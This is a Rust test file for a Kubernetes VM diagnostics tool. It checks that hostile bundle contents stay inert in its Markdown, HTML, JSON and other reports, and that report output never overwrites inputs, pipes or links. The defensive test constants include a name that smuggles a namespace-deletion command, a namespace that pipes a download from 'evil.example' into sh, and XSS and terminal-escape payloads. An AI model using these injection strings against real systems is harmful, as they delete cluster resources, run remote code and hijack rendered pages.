//! A bundle crafted by whoever controls the cluster: names and log lines that try to become
//! shell commands, Markdown or HTML, or terminal escape sequences once in a report. Every
//! report format must keep them inert; checked with a CommonMark parser and an HTML parser.

mod common;

use std::path::PathBuf;

use common::*;
use vmstuck_analyze::report::{Format, Report};

/// A newline that smuggles a command, a command chained after a name, Markdown that would
/// open a fence, a heading and raw HTML, and a terminal escape sequence.
const NAME: &str = "vm1\nkubectl delete namespace kube-system";
const NAMESPACE: &str = "vms; curl http://evil.example/x | sh #";
const LOG_PAYLOAD: &str = "```\n# PWNED\n<script>alert(1)</script><img src=x onerror=alert(2)> \u{1b}]0;owned\u{7}\u{1b}[2J";

fn hostile_files() -> Vec<(String, String)> {
    let q = |s: &str| serde_json::to_string(s).unwrap();
    let vm = VM
        .replace("name: fedora", &format!("name: {}", q(NAME)))
        .replace("namespace: vms", &format!("namespace: {}", q(NAMESPACE)));
    let vmi = VMI
        .replace("name: fedora", &format!("name: {}", q(NAME)))
        .replace("namespace: vms", &format!("namespace: {}", q(NAMESPACE)));
    let event = format!(
        "apiVersion: v1\nkind: EventList\nitems:\n- apiVersion: v1\n  kind: Event\n  count: 3\n  involvedObject:\n    kind: VirtualMachineInstance\n    name: {}\n    namespace: {}\n  message: {}\n  metadata:\n    name: e1\n    namespace: {}\n  reason: FailedMount\n  type: Warning\n  lastTimestamp: \"2024-05-01T09:50:00Z\"\n",
        q(NAME),
        q(NAMESPACE),
        q(&format!(
            "MountVolume.SetUp failed for volume \"disk\" : {LOG_PAYLOAD}"
        )),
        q(NAMESPACE)
    );
    vec![
        ("must-gather.local.1/timestamp".into(), TIMESTAMP.into()),
        (format!("{ROOT}/namespaces/x/kubevirt.io/vm.yaml"), vm),
        (format!("{ROOT}/namespaces/x/crs/vmi.yaml"), vmi),
        (format!("{ROOT}/namespaces/x/core/events.yaml"), event),
    ]
}

fn render(format: Format) -> String {
    let analysis = analysis_of_files("hostile", &hostile_files());
    let report = Report::from(&analysis);
    assert_eq!(report.vms.len(), 1, "the VM is still diagnosed");
    vmstuck_analyze::report::render(&report, format).unwrap()
}

#[test]
fn names_never_reach_a_command() {
    let report = Report::from(&analysis_of_files("hostile", &hostile_files()));
    let vm = &report.vms[0];
    assert_eq!(vm.unsafe_names.len(), 2, "{:?}", vm.unsafe_names);
    let commands: Vec<&str> = vm
        .causes
        .iter()
        .flat_map(|c| &c.findings)
        .map(|f| f.next_steps.as_str())
        .chain([vm.diagnosis.as_str(), vm.mitigation.as_str()])
        .chain(vm.to_prove.iter().map(String::as_str))
        .collect();
    assert!(!commands.is_empty());
    for c in commands {
        assert!(
            !c.contains("kube-system") && !c.contains("curl") && !c.contains("vm1"),
            "{c}"
        );
    }
    assert!(
        vm.diagnosis.contains("${NAMESPACE}"),
        "a variable stands in: {}",
        vm.diagnosis
    );
}

#[test]
fn markdown_holds_no_html_no_smuggled_heading_and_no_open_fence() {
    use pulldown_cmark::{CodeBlockKind, Event, Parser, Tag, TagEnd};
    let md = render(Format::Md);
    assert!(
        !md.contains('\u{1b}') && !md.contains('\u{7}'),
        "no terminal escapes"
    );
    let mut in_heading = false;
    let mut in_code = false;
    for event in Parser::new_ext(&md, pulldown_cmark::Options::all()) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML in the Markdown: {h}"),
            Event::Start(Tag::Heading { .. }) => in_heading = true,
            Event::End(TagEnd::Heading(_)) => in_heading = false,
            Event::Start(Tag::CodeBlock(kind)) => {
                in_code = true;
                if let CodeBlockKind::Fenced(lang) = kind {
                    assert!(
                        lang.is_empty() || &*lang == "sh",
                        "an unexpected fence: {lang}"
                    );
                }
            }
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(t) if in_heading => {
                assert!(!t.starts_with("PWNED"), "a smuggled heading: {t}");
            }
            Event::Text(t) if in_code => {
                assert!(
                    !t.contains("kube-system") && !t.contains("curl"),
                    "a command: {t}"
                );
            }
            _ => {}
        }
    }
    assert!(!in_code, "a fence stayed open to the end");
    // The payload is still there, as text.
    assert!(md.contains("PWNED"));
}

#[test]
fn html_holds_no_element_from_the_bundle() {
    let html = render(Format::Html);
    assert!(!html.contains('\u{1b}'));
    let doc = scraper::Html::parse_document(&html);
    for tag in ["script", "img", "iframe", "object"] {
        let sel = scraper::Selector::parse(tag).unwrap();
        assert_eq!(doc.select(&sel).count(), 0, "a {tag} element");
    }
    let all = scraper::Selector::parse("*").unwrap();
    for el in doc.select(&all) {
        assert!(
            !el.value().attrs().any(|(name, _)| name.starts_with("on")),
            "an event handler attribute on {}",
            el.value().name()
        );
    }
}

#[test]
fn other_formats_carry_no_control_characters() {
    for format in [Format::Json, Format::Sarif, Format::Junit] {
        let out = render(format);
        assert!(
            !out.chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{format:?}"
        );
        if format == Format::Junit {
            roxmltree::Document::parse(&out).expect("well-formed XML");
        }
    }
}

#[test]
fn the_report_file_is_replaced_whole_and_never_written_over_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = write(dir.path(), "bundle.tar", &good_tar());
    let bin = env!("CARGO_BIN_EXE_vmstuck-analyze");
    let out = std::process::Command::new(bin)
        .arg(&bundle)
        .arg("-o")
        .arg(&bundle)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("refusing to write the report over it"));
    assert_eq!(
        std::fs::read(&bundle).unwrap(),
        good_tar(),
        "the input is untouched"
    );
    let report = dir.path().join("report.md");
    std::fs::write(&report, "previous report").unwrap();
    let status = std::process::Command::new(bin)
        .arg(&bundle)
        .arg("-o")
        .arg(&report)
        .status()
        .unwrap();
    assert!(status.success());
    assert!(
        std::fs::read_to_string(&report)
            .unwrap()
            .starts_with("# VM stuck report")
    );
    let left: Vec<PathBuf> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(left.len(), 2, "no temporary file left: {left:?}");
}

/// Regression: the report was renamed over `-o`, so `-o /dev/null` put a plain file in the
/// place of the device (and later commands read back what others threw away).
#[test]
fn a_pipe_or_a_link_given_to_o_stays_what_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = write(dir.path(), "bundle.tar", &good_tar());
    let bin = env!("CARGO_BIN_EXE_vmstuck-analyze");

    let fifo = dir.path().join("pipe");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if made.is_ok_and(|s| s.success()) {
        let reader = {
            let fifo = fifo.clone();
            std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
        };
        let status = std::process::Command::new(bin)
            .arg(&bundle)
            .arg("-o")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(status.success());
        // Checked before waiting for the reader, which a replaced pipe would leave blocked.
        use std::os::unix::fs::FileTypeExt;
        assert!(
            std::fs::symlink_metadata(&fifo)
                .unwrap()
                .file_type()
                .is_fifo()
        );
        assert!(reader.join().unwrap().starts_with("# VM stuck report"));
    } else {
        assert!(std::env::var_os("CI").is_none(), "CI machines have mkfifo");
        eprintln!("mkfifo not available: the pipe case is skipped");
    }

    let real = dir.path().join("real.md");
    std::fs::write(&real, "previous").unwrap();
    let link = dir.path().join("link.md");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let status = std::process::Command::new(bin)
        .arg(&bundle)
        .arg("-o")
        .arg(&link)
        .status()
        .unwrap();
    assert!(status.success());
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        std::fs::read_to_string(&real)
            .unwrap()
            .starts_with("# VM stuck report")
    );
}

#[test]
fn a_byte_order_mark_does_not_hide_a_vm() {
    let mut members = good_members();
    for (path, bytes) in &mut members {
        if path.ends_with("fedora.yaml") && path.contains("virtualmachines") {
            let mut with_bom = "\u{feff}".as_bytes().to_vec();
            with_bom.extend_from_slice(bytes);
            *bytes = with_bom;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let path = write(
        dir.path(),
        "bom.tar",
        &tar(&members
            .iter()
            .map(|(n, d)| Member::File(n, d))
            .collect::<Vec<_>>()),
    );
    let report = report_of(&path);
    assert_eq!(report.bundle.vms_seen, 1);
    assert_eq!(report.vms[0].name, "fedora");
}
